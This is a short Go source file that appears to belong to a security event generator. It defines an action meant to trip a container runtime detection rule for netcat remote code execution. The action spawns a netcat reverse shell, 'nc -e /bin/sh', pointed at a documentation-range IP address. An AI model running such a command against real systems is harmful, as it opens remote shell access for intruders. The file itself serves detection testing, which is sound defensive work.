package action

var netcatRemoteCodeExecutionInContainer = Action{
	Name:    "syscall.NetcatRemoteCodeExecutionInContainer",
	Summary: "start a process called nc with -e",
	Rule:    "Netcat Remote Code Execution in Container", RuleSet: Stable,
	Tags:   []string{"network", "process", "mitre_execution", "T1059"},
	Spawns: []string{"nc"},
	Needs:  Needs{Place: Container},
	Cost:   Process, Bench: BenchSlow, BenchWhy: "a process for each", Default: true,
	prepare: spawns(program{name: "nc", args: []string{"-e", "/bin/sh", "192.0.2.1", "22"}}),
}
